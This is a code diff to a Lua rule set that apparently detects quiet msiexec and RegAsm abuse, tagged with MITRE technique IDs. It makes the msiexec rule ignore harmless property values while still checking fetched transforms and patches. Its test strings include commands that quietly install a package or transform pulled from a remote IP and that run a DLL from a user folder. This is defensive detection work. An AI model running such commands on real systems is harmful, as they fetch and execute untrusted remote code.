@@ -76,10 +76,23 @@ local function explorer_target(each, case)
     return nil
 end
 
+-- Properties that name what msiexec fetches besides the package; others, as a server's address, it only hands on.
+local FETCHED = { transforms = true, patch = true, sourcelist = true }
+
+local function without_properties(each)
+    local words = {}
+    for _, word in ipairs(each.words) do
+        local property = word:match "^([%w_.]+)="
+        if not property or FETCHED[property:lower()] then words[#words + 1] = word end
+    end
+    return { words = words, text = table.concat(words, " ") }
+end
+
 local function msiexec_target(each, case)
     local quiet = each:has("/q", "/quiet", "/qn", "/qb", "/passive")
     local tells = quiet and each:has("/i", "/package") or each:has("/y", "/z")
-    return url(each) or (tells and tools.foreign(each, case)) or nil
+    local plain = without_properties(each)
+    return url(plain) or (tells and tools.foreign(plain, case)) or nil
 end
 
 local function wmic_target(each)
@@ -120,7 +133,8 @@ local ROWS = {
     { id = "stealth.msiexec", programs = { "msiexec" }, attack = "T1218.007", target = msiexec_target,
       verb = "install-quietly", name = "msiexec", is_administration = true,
       match = "msiexec /q /i http://203.0.113.5/a.msi",
-      no_match = [[msiexec /i "C:\Users\x\Downloads\viewer.msi"]] },
+      other = [[msiexec /i a.msi TRANSFORMS=https://203.0.113.5/a.mst /qn]],
+      no_match = [[msiexec /i agent.msi /quiet SERVER="https://agents.example/"]] },
     { id = "stealth.regasm", programs = { "regasm", "regsvcs" }, attack = "T1218.009",
       target = user_file, verb = "run-with-tool", means = "net-registrar",
       match = [[C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegAsm.exe /U C:\Users\x\AppData\a.dll]],
